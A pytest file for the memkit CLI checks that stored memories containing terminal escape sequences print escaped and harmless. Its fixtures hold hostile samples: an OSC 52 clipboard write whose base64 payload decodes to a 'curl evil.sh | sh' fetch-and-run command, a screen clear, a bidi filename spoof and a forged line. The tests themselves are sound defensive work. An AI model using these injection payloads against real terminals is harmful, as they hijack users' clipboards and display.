"""`memkit store recall|history|stats` never print stored terminal escapes (issue #34 item 3).

Was: stored OSC 52 clipboard writes, screen clears (CSI) and bidi overrides were printed
raw, so a memory could write the reader's clipboard or reorder what they read.
"""

from __future__ import annotations

import json
import re

import pytest

from memkit import SQLiteStore
from memkit.cli import main
from memkit.text import terminal_safe

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes the clipboard
CLEAR = "\x1b[2J\x1b[H"  # clears the screen
BIDI = "\u202eexe.txt\u202c"  # shows reversed
UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)
CONTENT = f"deploy notes{OSC52}{CLEAR} see {BIDI}\nforged line\u2028\x85end"
SCOPE = "team\x1b[31m-red"


@pytest.fixture
def db(tmp_path):
    path = str(tmp_path / "m.db")
    with SQLiteStore.open(path, embedder="hashing") as s:
        first = s.remember(SCOPE, CONTENT).id
        s.update(SCOPE, first, CONTENT + " (revised)")
    return path, first


def _out(capsys, argv) -> str:
    assert main(argv) == 0
    return capsys.readouterr().out


def test_text_output_escapes_what_a_terminal_would_run(db, capsys):
    path, first = db
    outs = {
        "recall": _out(capsys, ["store", "recall", "--db", path, "--scope", SCOPE, "deploy notes"]),
        "history": _out(capsys, ["store", "history", "--db", path, "--scope", SCOPE, first]),
        "stats": _out(capsys, ["store", "stats", "--db", path]),
    }
    for name, out in outs.items():
        assert not UNSAFE.search(out), (name, out)
        assert "\x1b" not in out and "\u202e" not in out
    for name in ("recall", "history"):
        out = outs[name]
        assert "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in out and "\\x1b[2J" in out
        assert "\\u202eexe.txt\\u202c" in out and "\\nforged line\\u2028\\x85end" in out
        assert not any(line.startswith("forged") for line in out.splitlines())
    assert "team\\x1b[31m-red" in outs["stats"]


def test_json_output_keeps_the_text_escaped_and_exact(db, capsys):
    path, first = db
    out = _out(capsys, ["store", "history", "--db", path, "--scope", SCOPE, first, "--json"])
    assert not UNSAFE.search(out) and "\u202e" not in out
    assert json.loads(out)[0]["content"] == CONTENT  # nothing lost, only escaped


@pytest.mark.parametrize(
    "raw, shown",
    [
        ("\x1b[2J", "\\x1b[2J"),
        ("a\nb\r\tc", "a\\nb\\r\\tc"),
        ("\x00\x7f\x9b", "\\x00\\x7f\\x9b"),
        ("\u202e\u2066\u200f\u061c", "\\u202e\\u2066\\u200f\\u061c"),
        ("Café 😀 – “ok”", "Café 😀 – “ok”"),  # printable text is unchanged
    ],
)
def test_terminal_safe(raw, shown):
    assert terminal_safe(raw) == shown
